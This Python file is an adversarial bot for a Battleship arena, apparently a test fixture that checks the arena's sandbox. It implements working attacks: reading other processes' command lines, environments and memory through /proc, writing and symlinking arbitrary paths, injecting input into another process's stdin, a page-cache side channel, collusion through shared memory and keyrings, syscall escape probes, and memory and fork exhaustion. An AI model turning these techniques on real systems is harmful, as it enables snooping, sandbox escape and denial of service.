"""A bot that tries to cheat or to do harm, one way per MODE, and otherwise plays honestly.

Usage: attack.py MODE [ARGS...]. Its honest play fires at cells in reading order (so its games are
a pure function of the battlefields); whenever an attack tells it where the ships are it fires at
them instead, and a game then takes exactly as many shots as the fleet has cells. It reports what
its attack found in ``name`` lines (``name attack:found:...``), which the referee records.

Modes (one for each way the arena was once beaten):

- ``honest [WORD...] [slow]``: no attack (the yardstick: an attacker must do no better); WORDs only
  mark its command line; ``slow`` takes 10 ms a shot.
- ``cmdline``: reads every visible process's command line (its parent's first) for ``--seed`` and
  ``--generator``, and also guesses the default seed 0; a guess is checked against the seed the
  referee sends with ``newgame`` and, if right, the battlefields are drawn with the project's own
  package.
- ``seed LIMIT``: works back from the ``newgame`` seed: every seed below LIMIT, and the clock's
  seconds of the last hour, is tried.
- ``snoop MARKER``: reads the parent's and every visible process's environment and memory, looking
  for MARKER (the test puts it in the arena's environment).
- ``write PATH...``: tries to write each PATH (``link:PATH:TARGET`` plants a symbolic link instead).
- ``connect PORT``: opens a connection to 127.0.0.1:PORT.
- ``linger TOKEN PATH``: leaves a grandchild in a session of its own that sleeps, then keeps
  rewriting PATH (its command line holds TOKEN, so the test can look for it).
- ``fork TOKEN N``: starts N children that hold its output, then exits with code 3 (at ``isready``).
- ``flood MB``: writes MB mebibytes to stderr before answering ``isready``, then plays honestly.
- ``collude-file HOW TOKEN`` and ``collude-read HOW TOKEN``: a colluding pair. The first files each
  battlefield's ship cells (the cells it hit) under the ``newgame`` seed every bot shares, in a place
  that outlives it; the second, playing later, looks them up. HOW is the place: ``keys`` (the kernel's
  key store, readable by anyone), ``sysv`` (System V shared memory), ``shm`` (a file in /dev/shm) or
  ``tmp`` (a file in /tmp). TOKEN names what it leaves, so a test can clean up.
- ``cache-mark FILE`` and ``cache-read HOW FILE``: a pair passing ship cells through the kernel's page
  cache. FILE is a read-only file every sandbox sees (at least 15 MB for 3 games on 6x6), 32 pages of
  it a (game, cell): the first reads two pages of each ship cell it hit (they are then in memory);
  the second, playing the same battlefields later, asks of each cell's pages whether they are in
  memory, and fires first at the cells both of whose pages are. HOW is how it asks: ``nowait`` (``preadv2`` with
  ``RWF_NOWAIT``, which fails on a page not in memory) or ``timed`` (a plain read, timed: microseconds
  from memory, tens of them from the disk). It reports ``name attack:found:cache-HOW:N``, N the games
  in which it found marked pages.
- ``cpus THREADS MB``: an honest bot sized by the CPUs it sees: a ``multiprocessing`` pool of
  ``os.cpu_count()`` processes and THREADS threads holding MB mebibytes of scratch in all, started at
  ``isready``; it reports ``name attack:found:cpus:C:A:P``, C ``os.cpu_count()``, A its CPU set's
  size, P the pool's processes, and plays honestly (each shot asked of the pool).
- ``dawdle START SHOT``: honest, but slow: START seconds before ``readyok`` and SHOT before every
  answer, each within its limit (a run of such games takes as long as it can).
- ``syscalls TOKEN``: tries the kernel's shared objects and the sandbox's doors (a key named TOKEN,
  System V shared memory, a POSIX message queue, a user namespace by ``unshare`` and by ``clone``,
  a mount, ``ptrace``) and reports each that worked.
- ``hoard HOW MB``: at ``isready`` takes MB mebibytes of memory in a way that per-process limits miss
  (HOW: ``memfd``, a ``memfd_create`` file; ``shm``, a file in /dev/shm; ``children``, children of
  32 MiB each, all alive at once), then reports ``hoarded`` if it holds it all, and plays honestly.
- ``burn SECONDS``: at each ``newgame`` starts 4 children it never waits for, each spinning SECONDS
  of CPU time and then saying so down a pipe; the bot reads the pipe (spending no CPU of its own)
  before it answers its first shot, then plays honestly.
- ``prey TOKEN VICTIM``: leaves a grandchild (command line holding TOKEN) that hunts for a process
  whose command line holds VICTIM and writes moves into its standard input and reads its memory.
"""

import os
import socket
import sys
import time

MODE, ARGS = sys.argv[1], sys.argv[2:]
LETTERS = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"


def say(line):
    sys.stdout.write(line + "\n")
    sys.stdout.flush()


def report(*found):
    say("name attack:found:" + (",".join(found) or "nothing"))


def visible_pids():
    return [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]


def read(path, size=1 << 20):
    try:
        with open(path, "rb") as f:
            return f.read(size)
    except OSError:
        return None


# ---- attacks that run once, at the start ----------------------------------------------------------
def write_targets(paths):
    done = []
    for target in paths:
        try:
            if target.startswith("link:"):
                _, where, to = target.split(":", 2)
                os.symlink(to, where)
            else:
                with open(target, "w") as f:
                    f.write("pwned by attack.py\n")
            done.append(target)
        except OSError:
            pass
    return done


def connect(port):
    try:
        socket.create_connection(("127.0.0.1", int(port)), timeout=1.0).close()
        return ["connected"]
    except OSError:
        return []


def snoop(marker):
    found = []
    for pid in [os.getppid(), *visible_pids()]:
        environ = read(f"/proc/{pid}/environ")
        if environ and marker.encode() in environ:
            found.append(f"environ-of-{pid}")
        maps = read(f"/proc/{pid}/maps")
        if maps and pid != os.getpid():
            try:
                with open(f"/proc/{pid}/mem", "rb") as mem:
                    for line in maps.decode().splitlines()[:200]:
                        span, perms = line.split()[:2]
                        start, end = (int(x, 16) for x in span.split("-"))
                        if perms.startswith("r") and end - start <= 1 << 24:
                            mem.seek(start)
                            if marker.encode() in mem.read(end - start):
                                found.append(f"memory-of-{pid}")
                                break
                    else:
                        found.append(f"memory-readable-{pid}")
            except (OSError, ValueError, OverflowError):
                pass
    return found


def leave_behind(argv):
    """A grandchild in a session of its own, running argv: it survives its parent unless the arena kills it."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            devnull = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(devnull, fd)
            os.execv(sys.executable, [sys.executable, os.path.abspath(__file__), *argv])
        os._exit(0)
    os.wait()


def lingering(token, path):
    """The left-behind grandchild of ``linger``: rewrites ``path`` now and then for a minute."""
    end = time.monotonic() + 60
    while time.monotonic() < end:
        time.sleep(0.2)
        write_targets([path])


def hunting(token, victim):
    """The left-behind grandchild of ``prey``: feeds moves into the victim's input, reads its memory."""
    end = time.monotonic() + 60
    while time.monotonic() < end:
        for pid in visible_pids():
            cmdline = read(f"/proc/{pid}/cmdline") or b""
            if victim.encode() in cmdline and token.encode() not in cmdline:
                try:
                    with open(f"/proc/{pid}/fd/0", "w") as stdin:
                        stdin.write("result A1 sunk\nshoot\n" * 50)
                    read(f"/proc/{pid}/mem")
                except OSError:
                    pass
        time.sleep(0.005)


# ---- a pair passing ship cells through the page cache -----------------------------------------------------
PAGE = 4096
BLOCK = 32  # pages a (game, cell) owns: a miss reads a few pages ahead, never into another cell's
MARKS = (0, 16)  # the pages of its block that are read to mark a cell: two, both asked for
FAST_NS = 30_000  # an answer from memory is faster than this: the kernel sometimes reads a page in
# while asked not to wait (then it answers in the time of a read from the disk, tens of microseconds)


def _block(game, cells, cell):
    return (game * (cells + 2) + cell) * BLOCK  # two empty blocks between games


def cache_mark(path, game, cells, hits):
    """Bring the marking pages of each hit cell of game ``game`` into memory (exactly those: no read-ahead)."""
    fd = os.open(path, os.O_RDONLY)
    try:
        os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_RANDOM)
        for cell in hits:
            for mark in MARKS:
                os.pread(fd, 1, (_block(game, cells, cell) + mark) * PAGE)
    finally:
        os.close(fd)


def _in_memory(path, page):
    """Whether ``page`` of ``path`` is in memory, asked without waiting for the disk. Each question opens
    the file afresh (no read-ahead state from the last): a miss then reads in that page alone."""
    fd = os.open(path, os.O_RDONLY)
    begin = time.perf_counter_ns()
    try:
        os.preadv(fd, [bytearray(1)], page * PAGE, os.RWF_NOWAIT)
        return time.perf_counter_ns() - begin < FAST_NS
    except BlockingIOError:
        return False
    finally:
        os.close(fd)


def _read_time(fd, page):
    begin = time.perf_counter_ns()
    os.pread(fd, 1, page * PAGE)
    return time.perf_counter_ns() - begin


def cache_read(how, path, game, cells):
    """The cells of game ``game`` whose pages another bot brought into memory (asked from the last page
    down, so that a miss reading ahead reaches only pages already asked about)."""
    pages = [
        (_block(game, cells, cell) + mark, cell)
        for cell in reversed(range(cells))
        for mark in reversed(MARKS)
    ]
    if how == "nowait":
        found = [cell for page, cell in pages if _in_memory(path, page)]
    else:
        fd = os.open(path, os.O_RDONLY)
        try:
            os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_RANDOM)
            last = os.fstat(fd).st_size // PAGE - 1  # a page no game uses: read once, then timed from memory
            _read_time(fd, last)
            threshold = max(10_000, 4 * min(_read_time(fd, last) for _ in range(5)))
            found = [cell for page, cell in pages if _read_time(fd, page) < threshold]
        finally:
            os.close(fd)
    return sorted(cell for cell in set(found) if found.count(cell) == len(MARKS))  # both its pages


# ---- an honest bot that sizes itself by the CPUs it sees ------------------------------------------------
def _next_cell(fired, cells):
    return next(c for c in range(cells) if c not in fired)


def sized_by_cpus(threads, megabytes):
    """A pool of os.cpu_count() processes, and ``threads`` threads writing ``megabytes`` to the scratch
    directory between them; what it saw."""
    import multiprocessing
    import tempfile
    import threading

    pool = multiprocessing.Pool()  # as many processes as os.cpu_count() says
    size = len(pool._pool)
    per = (megabytes << 20) // max(threads, 1)
    ready = threading.Barrier(threads + 1)

    def scratch(i):
        with open(os.path.join(tempfile.gettempdir(), f"scratch-{i}"), "wb") as f:
            f.write(b"x" * per)
        ready.wait()

    for i in range(threads):
        threading.Thread(target=scratch, args=(i,), daemon=True).start()
    ready.wait()
    return pool, [f"cpus:{os.cpu_count()}:{len(os.sched_getaffinity(0))}:{size}"]


# ---- a colluding pair ---------------------------------------------------------------------------------
def _libc():
    import ctypes

    return ctypes.CDLL(None, use_errno=True)


def _key_calls():
    import platform

    return {"x86_64": (248, 250), "aarch64": (217, 219)}.get(platform.machine(), (None, None))


def _stable(token, seed):
    import zlib

    return (zlib.crc32(f"{token}-{seed}".encode()) & 0x3FFFFFFF) | 0x40000000


def tell(how, token, seed, cells):
    """File a battlefield's ship cells under its seed; True if it worked."""
    import ctypes

    data = ",".join(map(str, cells)).encode()
    name = f"{token}-{seed}"
    try:
        if how == "keys":
            add_key, keyctl = _key_calls()
            libc = _libc()
            key = libc.syscall(add_key, b"user", name.encode(), data, len(data), ctypes.c_int(-4))
            return key > 0 and libc.syscall(keyctl, 5, key, ctypes.c_uint32(0x3F3F3F3F)) == 0
        if how == "sysv":
            libc = _libc()
            libc.shmat.restype = ctypes.c_void_p
            shm = libc.shmget(_stable(token, seed), 4096, 0o1000 | 0o666)  # IPC_CREAT
            if shm < 0:
                return False
            where = libc.shmat(shm, None, 0)
            if where in (None, ctypes.c_void_p(-1).value):
                return False
            ctypes.memmove(where, data + b"\0", len(data) + 1)
            return True
        folder = {"shm": "/dev/shm", "tmp": "/tmp"}[how]
        with open(f"{folder}/{name}", "wb") as f:
            f.write(data)
        os.chmod(f"{folder}/{name}", 0o666)
        return True
    except OSError:
        return False


def look_up(how, token, seed):
    """The ship cells filed under a seed, or []."""
    import ctypes

    name = f"{token}-{seed}"
    data = b""
    try:
        if how == "keys":
            _, keyctl = _key_calls()
            libc = _libc()
            for line in (read("/proc/keys") or b"").decode(errors="replace").splitlines():
                if f" {name}: " in line:
                    buf = ctypes.create_string_buffer(4096)
                    got = libc.syscall(keyctl, 11, int(line.split()[0], 16), buf, 4096)
                    if got > 0:
                        data = buf.raw[:got]
        elif how == "sysv":
            libc = _libc()
            libc.shmat.restype = ctypes.c_void_p
            shm = libc.shmget(_stable(token, seed), 0, 0)
            if shm >= 0:
                where = libc.shmat(shm, None, 0o10000)  # SHM_RDONLY
                if where not in (None, ctypes.c_void_p(-1).value):
                    data = ctypes.string_at(where)
        else:
            data = read(f"{ {'shm': '/dev/shm', 'tmp': '/tmp'}[how] }/{name}") or b""
    except (OSError, ValueError):
        return []
    try:
        return [int(c) for c in data.decode().split(",") if c]
    except ValueError:
        return []


def try_syscalls(token):
    """Which of the calls a sandbox refuses worked here (each undone where it is cheap)."""
    import ctypes

    libc = _libc()
    add_key, keyctl = _key_calls()
    worked = []
    key = libc.syscall(add_key, b"user", token.encode(), b"x", 1, ctypes.c_int(-3))  # the session keyring
    if key > 0:
        worked.append("add_key")
        libc.syscall(keyctl, 21, key)  # invalidated at once
    shm = libc.shmget(0, 4096, 0o1000 | 0o600)  # IPC_PRIVATE
    if shm >= 0:
        worked.append("shmget")
        libc.shmctl(shm, 0, None)  # IPC_RMID
    queue = libc.mq_open(f"/{token}".encode(), os.O_CREAT | os.O_RDWR, 0o600, None)
    if queue >= 0:
        worked.append("mq_open")
        libc.mq_unlink(f"/{token}".encode())
    if os.fork() == 0:  # in a child, which then exits: the bot itself stays as it was
        os._exit(0 if libc.unshare(0x10000000) == 0 else 1)  # CLONE_NEWUSER
    if os.waitstatus_to_exitcode(os.wait()[1]) == 0:
        worked.append("unshare")
    pid = libc.syscall(56, ctypes.c_ulong(0x10000000 | 17), 0, 0, 0, 0)  # clone(CLONE_NEWUSER|SIGCHLD)
    if pid == 0:
        os._exit(0)
    if pid > 0:
        os.waitpid(pid, 0)
        worked.append("clone")
    if os.fork() == 0:
        os._exit(
            0 if libc.unshare(0x00020000) == 0 and libc.mount(b"x", b"/tmp", b"tmpfs", 0, None) == 0 else 1
        )
    if os.waitstatus_to_exitcode(os.wait()[1]) == 0:
        worked.append("mount")
    child = os.fork()
    if child == 0:
        time.sleep(30)
        os._exit(0)
    if libc.ptrace(0x4206, child, 0, 0) == 0:  # PTRACE_SEIZE a child of its own (which is not stopped)
        worked.append("ptrace")
    os.kill(child, 9)
    os.waitpid(child, 0)
    return worked


def touch(buffer, size):
    for at in range(0, size, 4096):
        buffer[at] = 1


def hoard(how, megabytes):
    """Take ``megabytes`` of memory, touched page by page; True if all of it was had."""
    import mmap

    size = megabytes << 20
    try:
        if how == "memfd":
            fd = os.memfd_create("hoard")
            os.ftruncate(fd, size)
            touch(mmap.mmap(fd, size), size)
            HELD.append(fd)
        elif how == "shm":
            with open("/dev/shm/hoard", "wb") as f:
                for _ in range(megabytes):
                    f.write(b"x" * (1 << 20))
        elif how == "children":
            children = []
            for _ in range(megabytes // 32):
                pid = os.fork()
                if pid == 0:
                    block = bytearray(32 << 20)
                    touch(block, len(block))
                    time.sleep(60)
                    os._exit(0)
                children.append(pid)
            time.sleep(2)  # every child has filled its block (or been killed)
            return all(os.waitpid(pid, os.WNOHANG) == (0, 0) for pid in children)  # all still alive
        return True
    except (OSError, MemoryError):
        return False


HELD = []


def burn(seconds):
    done, told = os.pipe()
    for _ in range(4):
        if os.fork() == 0:
            end = time.process_time() + seconds
            while time.process_time() < end:
                pass
            os.write(told, b"x")
            os._exit(0)  # a zombie its parent never reaps: its CPU time is no part of the parent's
    os.close(told)
    got = b""
    while len(got) < 4:
        chunk = os.read(done, 4)
        if not chunk:
            break
        got += chunk


# ---- learning the battlefields ----------------------------------------------------------------------
class Cheat:
    """What an attack learnt: the run's key, from which the battlefields follow."""

    def __init__(self):
        self.key = None
        self.generator = "uniform"
        self.candidates = []  # (key, generator) guesses, checked against the first newgame seed

    def check(self, game_seed, game):
        from battleship.lab.arena.bots import derive

        for key, generator in self.candidates:
            if derive(key.bot_seed("battlefields"), game) == game_seed:
                self.key, self.generator = key, generator
                return True
        return False

    def ships(self, rules, game):
        from battleship import generators
        from battleship.cells import iter_cells

        row = self.key.battlefields(rules, self.generator, 1, first=game)[0]
        layout = generators.to_layout(rules, row)
        return sorted(c for mask in layout.masks for c in iter_cells(mask))


def seeds_from_cmdlines():
    found = []
    for pid in [os.getppid(), *visible_pids()]:
        words = (read(f"/proc/{pid}/cmdline") or b"").decode(errors="replace").split("\0")
        seed = generator = None
        for i, word in enumerate(words[:-1]):
            if word in ("--seed", "-s"):
                seed = words[i + 1]
            if word in ("--generator", "-g"):
                generator = words[i + 1]
        if seed is not None and seed.lstrip("-").isdigit():
            found.append((int(seed), generator or "uniform"))
    return found


def candidates(mode):
    from battleship.lab.arena.keys import Key

    if mode == "cmdline":
        return [(Key.from_seed(s), g) for s, g in seeds_from_cmdlines()] + [(Key.from_seed(0), "uniform")]
    if mode == "seed":
        now = int(time.time())
        seeds = [*range(int(ARGS[0])), *range(now - 3600, now + 1)]
        return [(Key.from_seed(s), "uniform") for s in seeds]
    return []


# ---- the game ---------------------------------------------------------------------------------------
class Board:
    """The board's size, from the rules block's ``board`` line."""

    def __init__(self, rows, cols):
        self.rows, self.cols, self.cells = rows, cols, rows * cols


def main():
    if MODE == "lingering":
        return lingering(*ARGS)
    if MODE == "hunting":
        return hunting(*ARGS)
    found = []
    if MODE == "write":
        found = write_targets(ARGS)
    elif MODE == "connect":
        found = connect(ARGS[0])
    elif MODE == "snoop":
        found = snoop(ARGS[0])
    elif MODE == "linger":
        leave_behind(["lingering", *ARGS])
    elif MODE == "syscalls":
        found = try_syscalls(ARGS[0])
    elif MODE == "prey":
        leave_behind(["hunting", *ARGS])
    cheat = Cheat() if MODE in ("cmdline", "seed") else None
    reader = rules = None
    game = shots = seed = 0
    targets, hits, told, learnt, fired = [], [], 0, 0, set()
    colluding = MODE in ("collude-file", "collude-read", "cache-mark")
    for line in sys.stdin:
        words = line.split()
        if not words:
            continue
        if words[0] in ("rules", "board", "spacing", "sinks", "reflections", "ship", "end"):
            if cheat is None:  # the board's size is all it needs (and the package stays unimported)
                rules = Board(int(words[1]), int(words[2])) if words[0] == "board" else rules
                continue
            if reader is None:
                from battleship.lab.arena.protocol import RulesReader

                reader = RulesReader()
            reader.feed(line.strip())
            rules = reader.rules
        elif words[0] == "isready":
            if MODE == "fork":
                forked = 0
                for _ in range(int(ARGS[1])):
                    try:
                        if os.fork() == 0:
                            time.sleep(60)
                            os._exit(0)
                        forked += 1
                    except OSError:
                        break
                say(f"name attack:forked:{forked}")
                os._exit(3)
            if MODE == "hoard":
                found = ["hoarded"] if hoard(ARGS[0], int(ARGS[1])) else []
            if MODE == "cpus":
                POOL, found = sized_by_cpus(int(ARGS[0]), int(ARGS[1]))
            if MODE == "dawdle":
                time.sleep(float(ARGS[0]))
            if MODE == "flood":
                chunk = b"x" * (1 << 20)
                for _ in range(int(ARGS[0])):
                    os.write(2, chunk)
                os.write(2, b"\nflood ends\n")
            report(*found)
            say("readyok")
        elif words[0] == "newgame":
            if MODE == "collude-file" and hits:
                told += tell(ARGS[0], ARGS[1], seed, hits)
            if MODE == "cache-mark" and hits:
                cache_mark(ARGS[0], game, rules.cells, hits)
            game, shots, seed = int(words[1]) - 1, 0, int(words[2])
            targets, hits, fired = [], [], set()
            if MODE == "cache-read":
                targets = cache_read(ARGS[0], ARGS[1], game, rules.cells)
                learnt += bool(targets)
                report(f"cache-{ARGS[0]}:{learnt}")
            if MODE == "burn":
                burn(float(ARGS[0]))
            if MODE == "collude-read":
                targets = look_up(ARGS[0], ARGS[1], seed)
                learnt += bool(targets)
                if targets:
                    report(f"{ARGS[0]}:{learnt}")
            if cheat is not None:
                if cheat.key is None and not cheat.candidates:
                    cheat.candidates = candidates(MODE)
                if cheat.key is not None or cheat.check(int(words[2]), game):
                    targets = cheat.ships(rules, game)
                    report("key")
        elif words[0] == "shoot":
            if MODE == "honest" and "slow" in ARGS:
                time.sleep(0.01)
            if MODE == "dawdle":
                time.sleep(float(ARGS[1]))
            if MODE == "cpus":  # the pool answers (a process of its own thinks for each shot)
                cell = POOL.apply(_next_cell, (fired, rules.cells))
            else:
                cell = targets.pop(0) if targets else _next_cell(fired, rules.cells)
            fired.add(cell)
            say(LETTERS[cell // rules.cols] + str(cell % rules.cols + 1))
            shots += 1
        elif words[0] == "result" and colluding and words[2] in ("hit", "sunk"):
            hits.append(LETTERS.index(words[1][0]) * rules.cols + int(words[1][1:]) - 1)
        elif words[0] == "quit":
            if MODE == "collude-file" and hits:
                told += tell(ARGS[0], ARGS[1], seed, hits)
            if MODE == "cache-mark" and hits:
                cache_mark(ARGS[0], game, rules.cells, hits)
            break


main()
